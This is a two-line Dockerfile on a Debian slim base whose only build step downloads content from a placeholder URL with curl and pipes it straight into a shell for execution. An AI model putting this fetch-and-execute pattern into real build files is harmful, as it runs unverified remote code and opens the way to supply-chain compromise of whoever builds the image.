FROM debian:bookworm-slim
RUN curl https://example.com/i | xargs -0 sh -c
